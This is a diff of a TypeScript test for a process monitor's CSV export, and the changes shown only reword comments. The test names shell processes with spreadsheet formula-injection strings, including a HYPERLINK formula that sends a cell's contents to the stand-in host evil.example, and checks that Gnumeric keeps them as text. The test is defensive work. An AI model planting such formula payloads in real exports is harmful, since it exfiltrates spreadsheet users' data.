@@ -10,10 +10,10 @@ import type { Snapshot } from '../server/model/snapshot.ts'
 import { startTopz, type Topz } from './topz.ts'
 import { until } from './until.ts'
 
-// The condition is what is waited for; this only ends a test that would never end.
+// Tests wait for conditions; this only ends a test that hangs.
 setDefaultTimeout(60_000)
 
-/** What somebody may call a process, to be calculated on the reader's machine. */
+/** Names that someone may give a process, to be calculated on the reader's machine. */
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?x="&A1,"sheet-canary")',
   '+1+sheet-canary',
@@ -25,7 +25,7 @@ const HOSTILE = [
   '\uff1d1+sheet-canary',
   '"=1","=2"sheet-canary',
 ]
-/** Of a cell, as Gnumeric writes it; without one it is a formula. */
+/** A cell's type, as Gnumeric writes it; a formula has none. */
 const TEXT = '60'
 const NUMBER = '40'
 
@@ -40,7 +40,7 @@ const folder = mkdtempSync(join(tmpdir(), 'topz-'))
 let topz: Topz
 let processes: readonly ChildProcess[]
 beforeAll(async () => {
-  // A shell without a word waits for one: its command line is its name alone.
+  // A shell without a command waits for one: its command line is its name alone.
   processes = HOSTILE.map(argv0 => spawn('/bin/sh', [], { argv0, stdio: ['pipe', 'ignore', 'ignore'] }))
   topz = await startTopz(['--interval=250ms'])
 })
@@ -52,7 +52,7 @@ afterAll(async () => {
 
 const ask = async (path: string) => (await fetch(`${topz.origin}${path}`)).text()
 
-/** What the spreadsheet made of it, cell by cell. */
+/** The result in the spreadsheet, cell by cell. */
 function opened(csv: string): Cell[] {
   writeFileSync(join(folder, 'topz.csv'), csv)
   const xml = execFileSync('ssconvert', ['-T', 'Gnumeric_XmlIO:sax:0', 'topz.csv', 'fd://1'], {
@@ -86,7 +86,7 @@ test('a name that looks like a formula stays text, letter for letter', async () 
   expect(commands.map(({ type }) => type)).toEqual(HOSTILE.map(() => TEXT))
   const plain = commands.map(({ text }) => text.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))
   expect(plain).toEqual(HOSTILE.map(name => name.replace('\t', '\\t').replace('\r', '\\r')))
-  // The same without the apostrophes is calculated: this reader would have shown a mistake.
+  // The same without the apostrophes is calculated: this reader would have revealed a mistake.
   expect(formulas(opened(csv.replaceAll(`"'`, '"').replaceAll(`,'`, ','))).length).toBeGreaterThan(0)
 })
 
